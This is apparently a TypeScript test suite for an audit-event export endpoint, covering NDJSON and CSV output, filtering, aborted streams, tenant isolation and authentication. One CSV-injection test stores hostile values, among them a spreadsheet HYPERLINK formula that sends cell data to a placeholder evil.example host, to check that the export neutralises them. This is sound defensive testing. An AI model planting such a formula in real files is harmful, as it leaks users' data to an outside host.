import { expect } from 'chai';
import type { AuditStore } from '../src/store/auditStore';
import type { EventFilter } from '../src/domain/filter';
import { parseCsv } from './helpers/csv';
import { describeEachDatabase } from './helpers/databases';
import {
  appendEvents,
  FILTER_CASES,
  fixtureEvents,
  iso,
  newestFirst,
  withQuery,
  type Query,
  type StoredAuditEvent,
} from './helpers/reads';
import { postJson, sampleEvent, startService, type RunningService } from './helpers/service';
import { authHeaders, ORG } from './helpers/tokens';

const OTHER_ORG = 'ORG-B@AdobeOrg';
const CSV_HEADER = [
  'id',
  'imsOrgId',
  'seq',
  'timestamp',
  'receivedAt',
  'action',
  'source',
  'serviceId',
  'resourceId',
  'userIdentifier',
  'tags',
  'leafHash',
];
const oldestFirst = (a: StoredAuditEvent, b: StoredAuditEvent) => newestFirst(b, a);
const ids = (items: StoredAuditEvent[]) => items.map((event) => event.id);

/** What the spec promises a CSV row holds for an event, before formula neutralisation. */
function csvValues(event: StoredAuditEvent): string[] {
  return [
    event.id,
    event.imsOrgId,
    String(event.seq),
    event.timestamp,
    event.receivedAt,
    event.action,
    event.source,
    event.service.serviceId,
    event.resource.resourceId,
    event.userIdentifier ?? '',
    event.tags ? JSON.stringify(Object.fromEntries(Object.entries(event.tags).sort())) : '',
    // Base64 may begin with '+', which the CSV prefixes like any formula-like value.
    event.leafHash.startsWith('+') ? `'${event.leafHash}` : event.leafHash,
  ];
}

describeEachDatabase('GET /audits/export', (database) => {
  let running: RunningService;
  let headers: Record<string, string>;
  let events: StoredAuditEvent[];
  before(async () => {
    running = await startService(database().url);
    headers = await authHeaders({ orgs: [ORG] });
    await appendEvents(running.service.store, fixtureEvents(OTHER_ORG));
    events = await appendEvents(running.service.store, fixtureEvents(ORG));
  });
  after(() => running?.close());

  const exportOf = (query: Query, extra: Record<string, string> = headers, init: RequestInit = {}) =>
    fetch(withQuery(`${running.url}/audits/export`, query), { headers: extra, ...init });
  const ndjsonOf = async (query: Query, extra = headers) => {
    const res = await exportOf(query, extra);
    expect(res.status, JSON.stringify(query)).to.equal(200);
    const text = await res.text();
    if (text !== '') expect(text.endsWith('\n'), 'every line ends in \\n').to.equal(true);
    return text
      .split('\n')
      .filter(Boolean)
      .map((line) => JSON.parse(line) as StoredAuditEvent);
  };

  describe('NDJSON (the default)', () => {
    it('streams every event of the tenant, oldest first, each exactly as stored', async () => {
      const res = await exportOf({ imsOrgId: ORG });
      expect(res.status).to.equal(200);
      expect(res.headers.get('content-type')).to.equal('application/x-ndjson');
      expect(res.headers.get('content-disposition')).to.equal('attachment; filename="audit-events.ndjson"');
      const lines = (await res.text()).split('\n');
      expect(lines.pop(), 'the last line ends in \\n').to.equal('');
      const exported = lines.map((line) => JSON.parse(line) as StoredAuditEvent);
      expect(exported).to.deep.equal([...events].sort(oldestFirst));
      expect(exported[0]).to.deep.equal(await running.service.store.get(exported[0].id));
    });

    it('is the list, reversed', async () => {
      const page = (await (
        await fetch(withQuery(`${running.url}/audits`, { imsOrgId: ORG, limit: '1000' }), { headers })
      ).json()) as {
        items: StoredAuditEvent[];
      };
      expect(await ndjsonOf({ imsOrgId: ORG, format: 'ndjson' })).to.deep.equal(page.items.reverse());
    });

    it('is empty for a tenant without events', async () => {
      const res = await exportOf({ imsOrgId: 'ORG-EMPTY' }, await authHeaders({ orgs: ['ORG-EMPTY'] }));
      expect(res.status).to.equal(200);
      expect(await res.text()).to.equal('');
    });

    it('crosses batch boundaries without losing or repeating an event, even among equal timestamps', async () => {
      const org = 'ORG-BATCHES';
      // 2,345 events with 10 per timestamp: batches of 1,000 end inside runs of ties.
      const many = fixtureEvents(org, 2345).map((event, i) => ({
        ...event,
        timestamp: iso(Date.parse('2024-01-01T00:00:00Z') + Math.floor(i / 10) * 1000),
      }));
      const stored = await appendEvents(running.service.store, many);
      const exported = await ndjsonOf({ imsOrgId: org }, await authHeaders({ orgs: [org] }));
      expect(exported).to.have.length(stored.length);
      expect(ids(exported)).to.deep.equal(ids([...stored].sort(oldestFirst)));
    });
  });

  describe('filters, the same as the list', () => {
    for (const { name, query, matches } of FILTER_CASES) {
      it(name, async () => {
        const expected = [...events].filter(matches).sort(oldestFirst);
        expect(expected.length).to.be.above(0).and.below(events.length);
        expect(ids(await ndjsonOf({ imsOrgId: ORG, ...query }))).to.deep.equal(ids(expected));
      });
    }
  });

  describe('CSV', () => {
    it('is RFC 4180 with a header row, one row per event, oldest first', async () => {
      const res = await exportOf({ imsOrgId: ORG, format: 'csv' });
      expect(res.status).to.equal(200);
      expect(res.headers.get('content-type')).to.equal('text/csv');
      expect(res.headers.get('content-disposition')).to.equal('attachment; filename="audit-events.csv"');
      const [header, ...rows] = parseCsv(await res.text());
      expect(header).to.deep.equal(CSV_HEADER);
      expect(rows).to.deep.equal([...events].sort(oldestFirst).map(csvValues));
      expect(
        rows.some((row) => row[10] === ''),
        'an event without tags has an empty tags field',
      ).to.equal(true);
    });

    it('is only the header row for a tenant without events', async () => {
      const res = await exportOf({ imsOrgId: 'ORG-EMPTY', format: 'csv' }, await authHeaders({ orgs: ['ORG-EMPTY'] }));
      expect(await res.text()).to.equal(`${CSV_HEADER.join(',')}\r\n`);
    });

    it('quotes hostile values and makes formulas inert', async () => {
      const org = 'ORG-HOSTILE';
      const hostileHeaders = await authHeaders({ orgs: [org] });
      const hostile = {
        action: '=HYPERLINK("http://evil.example/?"&A1,"click")',
        source: 'a,b',
        service: { serviceId: 'say "hi"' },
        resource: { resourceId: 'line one\nline two\r\nline three' },
        userIdentifier: '@SUM(1+1)',
        tags: { formula: '=1+2', 'key,with "quotes"': 'value\nwith newline', plus: '+cmd', minus: '-2', tab: '\tx' },
      };
      const res = await postJson(`${running.url}/audits`, sampleEvent({ imsOrgId: org, ...hostile }), hostileHeaders);
      expect(res.status).to.equal(201);
      const text = await (await exportOf({ imsOrgId: org, format: 'csv' }, hostileHeaders)).text();
      const [header, row, ...rest] = parseCsv(text);
      expect(rest).to.deep.equal([]);
      const field = (name: string) => row[header.indexOf(name)];
      expect(field('action')).to.equal(`'${hostile.action}`);
      expect(field('userIdentifier')).to.equal(`'${hostile.userIdentifier}`);
      expect(field('source')).to.equal('a,b');
      expect(field('serviceId')).to.equal('say "hi"');
      expect(field('resourceId')).to.equal(hostile.resource.resourceId);
      expect(JSON.parse(field('tags'))).to.deep.equal(hostile.tags);
      // As written on the wire:
      expect(text).to.include(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`);
      expect(text).to.include(',"a,b",');
      expect(text).to.include(',"say ""hi""",');
      expect(text).to.include(',"line one\nline two\r\nline three",');
      expect(text).to.include(",'@SUM(1+1),");
      expect(text.endsWith('\r\n')).to.equal(true);
    });
  });

  describe('an export the client abandons', () => {
    const org = 'ORG-ABANDONED';
    let abandonHeaders: Record<string, string>;
    let batchesTotal: number;
    before(async () => {
      abandonHeaders = await authHeaders({ orgs: [org] });
      // ~45 MB of NDJSON: far more than socket buffers hold, so the server must wait for the client.
      const big = { a: 'x'.repeat(1000), b: 'y'.repeat(1000), c: 'z'.repeat(1000), d: 'w'.repeat(1000) };
      const stored = await appendEvents(
        running.service.store,
        fixtureEvents(org, 10_000).map((event) => ({ ...event, tags: big })),
      );
      batchesTotal = Math.ceil(stored.length / 1000);
    });

    /** Counts the batches the export pulls from the store and whether it let go of them. */
    function spyOnExport(store: AuditStore) {
      const original = store.exportEvents.bind(store);
      const spy = { pulled: 0, released: false, restore: () => void (store.exportEvents = original) };
      store.exportEvents = async (filter: EventFilter) => {
        const batches = await original(filter);
        return (async function* () {
          try {
            for await (const batch of batches) {
              spy.pulled++;
              yield batch;
            }
          } finally {
            spy.released = true;
          }
        })();
      };
      return spy;
    }

    it('stops reading the database, releases it and leaves the server serving', async () => {
      const spy = spyOnExport(running.service.store);
      try {
        const abort = new AbortController();
        const res = await exportOf({ imsOrgId: org }, abandonHeaders, { signal: abort.signal });
        expect(res.status).to.equal(200);
        const reader = (res.body as ReadableStream<Uint8Array>).getReader();
        const first = await reader.read();
        expect(first.value!.length).to.be.above(0);
        abort.abort();
        await reader.read().catch(() => undefined);

        const deadline = Date.now() + 2000;
        while (!spy.released && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 20));
        expect(spy.released, 'the export let go of the store').to.equal(true);
        expect(spy.pulled, 'batches read before the client left').to.be.below(batchesTotal);

        // With SQLite's single pooled connection, anything still held would block these.
        const started = Date.now();
        const posted = await postJson(`${running.url}/audits`, sampleEvent({ imsOrgId: org }), abandonHeaders);
        expect(posted.status).to.equal(201);
        const read = await fetch(`${running.url}/audits/${(await posted.json()) as string}`, {
          headers: abandonHeaders,
        });
        expect(read.status).to.equal(200);
        const listed = await fetch(withQuery(`${running.url}/audits`, { imsOrgId: org, limit: '1' }), {
          headers: abandonHeaders,
        });
        expect(listed.status).to.equal(200);
        expect(Date.now() - started, 'ms to serve three requests after the abort').to.be.below(1000);
      } finally {
        spy.restore();
      }
    });

    it('serves other requests while a slow client holds an export open', async () => {
      const abort = new AbortController();
      try {
        const res = await exportOf({ imsOrgId: org }, abandonHeaders, { signal: abort.signal });
        await res.body!.getReader().read(); // then stop reading, as a slow client does
        const started = Date.now();
        const posted = await postJson(`${running.url}/audits`, sampleEvent({ imsOrgId: org }), abandonHeaders);
        expect(posted.status).to.equal(201);
        expect(Date.now() - started).to.be.below(1000);
      } finally {
        abort.abort();
      }
    });

    it('cuts the connection, rather than ending the response, when the database fails midway', async () => {
      const store = running.service.store;
      const original = store.exportEvents.bind(store);
      store.exportEvents = async (filter: EventFilter) => {
        const batches = await original(filter);
        return (async function* () {
          for await (const batch of batches) {
            yield batch;
            throw new Error('simulated database failure after the first batch');
          }
        })();
      };
      try {
        const res = await exportOf({ imsOrgId: org }, abandonHeaders);
        expect(res.status).to.equal(200);
        let error: unknown;
        await res.text().catch((caught: unknown) => (error = caught));
        expect(error, 'reading the body fails: the export is visibly incomplete').to.be.instanceOf(Error);
      } finally {
        store.exportEvents = original;
      }
      expect((await exportOf({ imsOrgId: 'ORG-EMPTY' }, await authHeaders({ orgs: ['ORG-EMPTY'] }))).status).to.equal(
        200,
      );
    });
  });

  describe('bad query parameters get 400 ErrorResponse', () => {
    const cases: [string, Query, RegExp][] = [
      ['an unknown format', { format: 'xml' }, /^query\.format must be equal to one of the allowed values$/],
      ['a page size', { limit: '10' }, /^query\.limit is not a known query parameter$/],
      ['a cursor', { cursor: 'abc' }, /^query\.cursor is not a known query parameter$/],
      ['a date that is not RFC 3339', { from: '31/10/2017' }, /^query\.from must be an RFC 3339 date-time/],
      ['a tag without a colon', { tag: ['region:eu', 'env'] }, /^query\.tag\[1\] must match pattern/],
    ];
    for (const [name, query, message] of cases) {
      it(name, async () => {
        const res = await exportOf({ imsOrgId: ORG, ...query });
        expect(res.status).to.equal(400);
        expect(res.headers.get('content-type')).to.equal('application/json');
        const body = (await res.json()) as { reason: string; message: string };
        expect(body.reason).to.equal('bad_request');
        expect(body.message).to.match(message);
      });
    }

    it('a missing imsOrgId', async () => {
      const res = await exportOf({ format: 'csv' });
      expect(res.status).to.equal(400);
      expect(await res.json()).to.deep.include({ message: 'query.imsOrgId is required' });
    });
  });

  describe('auth and tenant walls', () => {
    it('403 for a tenant the token does not cover', async () => {
      for (const format of ['ndjson', 'csv']) {
        const res = await exportOf({ imsOrgId: OTHER_ORG, format });
        expect(res.status).to.equal(403);
        expect(await res.json()).to.deep.equal({
          reason: 'forbidden',
          message: `token does not cover imsOrgId "${OTHER_ORG}"`,
        });
      }
    });

    it('never includes another tenant’s events', async () => {
      const exported = await ndjsonOf({ imsOrgId: OTHER_ORG }, await authHeaders({ orgs: '*' }));
      expect(exported).to.have.length(fixtureEvents(OTHER_ORG).length);
      expect(exported.every((event) => event.imsOrgId === OTHER_ORG)).to.equal(true);
    });

    it('403 for a token without scope audit.read', async () => {
      const res = await exportOf({ imsOrgId: ORG }, await authHeaders({ scope: 'audit.write' }));
      expect(res.status).to.equal(403);
      expect(await res.json()).to.deep.equal({ reason: 'forbidden', message: 'token lacks scope audit.read' });
    });

    it('401 with a JSON string without credentials', async () => {
      const res = await fetch(`${running.url}/audits/export?imsOrgId=${ORG}`);
      expect(res.status).to.equal(401);
      expect(await res.json()).to.equal('missing x-api-key header');
    });
  });
});
